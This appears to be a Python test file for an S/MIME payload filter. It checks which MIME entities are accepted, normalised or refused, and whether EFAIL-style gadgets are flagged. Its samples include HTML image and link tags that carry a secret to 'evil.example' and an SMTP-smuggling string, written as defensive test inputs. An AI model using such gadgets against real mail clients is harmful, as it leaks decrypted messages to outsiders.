"""What may come out of a layer, and what is refused."""

import pytest

from app.smime.payload import RefusedPayload, accept, suspicions

TEXT = b"Content-Type: text/plain\r\n\r\nHello\r\n"


@pytest.mark.parametrize(
    ("octets", "result"),
    [
        (TEXT, TEXT),
        (TEXT.replace(b"\r\n", b"\n"), TEXT),
        (b"\r\nno header section\r\n", b"\r\nno header section\r\n"),
        (b"bare text of openssl\n", b"\r\nbare text of openssl\r\n"),
        (b"MIME-Version: 1.0\r\n" + TEXT, b"MIME-Version: 1.0\r\n" + TEXT),
        (
            b"Content-Type: message/rfc822\r\n\r\n" + TEXT,
            b"Content-Type: message/rfc822\r\n\r\n" + TEXT,
        ),
    ],
)
@pytest.mark.parametrize("authenticated", [True, False])
def test_entity_is_taken_with_canonical_line_ends(
    octets: bytes, result: bytes, authenticated: bool
) -> None:
    assert accept(octets, authenticated=authenticated) == result


@pytest.mark.parametrize(
    "octets",
    [
        b"",
        b"\x93\x10\xfe\x00garbage",
        b"Content-Type: text/plain\r\n\r\na\x00b\r\n",
        b"Content-Type: text/plain\r\n\r\na\rb\r\n",
        b"Content-Type: text/plain\r\n\r\nHello\r\n.\r\r\nMAIL FROM:<x>\r\n",  # T24
        b"Content-Type: gadget/\x07\r\n\r\nHello\r\n",
        b"Content-Type: gadget/plain\r\n\r\nHello\r\n",
        b"Content-Type: text/html\r\nX\x01: a\r\n\r\n<p>\r\n",
        b"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<p>\r\n",
        b"Content-Type : text/html\r\n\r\n<p>\r\n",
        b"not a field\r\nContent-Type: text/html\r\n\r\n<p>\r\n\xff",
        "Grüße ohne Kopf".encode(),
    ],
)
@pytest.mark.parametrize("authenticated", [True, False])
def test_anything_else_is_refused(octets: bytes, authenticated: bool) -> None:  # R28
    with pytest.raises(RefusedPayload):
        accept(octets, authenticated=authenticated)


def test_debris_in_a_header_is_refused_without_authentication() -> None:  # T73
    octets = b"Content-Type: text/html\r\nX: \xc3\xbc\r\n\r\n<p>\r\n"
    assert accept(octets, authenticated=True) == octets
    with pytest.raises(RefusedPayload):
        accept(octets, authenticated=False)


def test_binary_body_becomes_base64() -> None:  # RFC 8551 §3.1.2
    octets = (
        b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n"
        b"Content-Transfer-Encoding: binary\r\n\r\n\x30\x80\x00\r\n\n\r\xff"
    )
    entity = accept(octets, authenticated=False)
    assert b"Content-Transfer-Encoding: base64" in entity
    from app.mail.entity import parse_entity

    assert parse_entity(entity).decoded() == b"\x30\x80\x00\r\n\n\r\xff"


def test_deep_entity_is_refused() -> None:  # T35
    octets = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(50)
    )
    with pytest.raises(RefusedPayload):
        accept(octets, authenticated=True)


HTML = b"Content-Type: text/html\r\n\r\n"


@pytest.mark.parametrize(
    ("octets", "found"),
    [
        (TEXT, ()),
        (HTML + b'<img src="http://example.com/a.png">\r\n', ()),
        (HTML + b'<img src="http://evil.example/?\r\nsecret\r\n">\r\n', ("exfiltration",)),
        (HTML + b"<a href='https://evil.example/" + b"x" * 3000 + b"'>\r\n", ("exfiltration",)),
        (HTML + b'<img src="http://evil.example/?secret\r\n', ("exfiltration",)),
        (HTML + b"<img src=http://example.com/a.png>\r\n", ()),
        (b"Content-Type: text/plain\r\n\r\na\x01b\r\n", ("control-characters",)),
        (b"Content-Type: application/pdf\r\n\r\na\x01b\r\n", ()),
    ],
)
def test_gadgets_are_named(octets: bytes, found: tuple[str, ...]) -> None:  # EFAIL
    assert suspicions(octets) == found
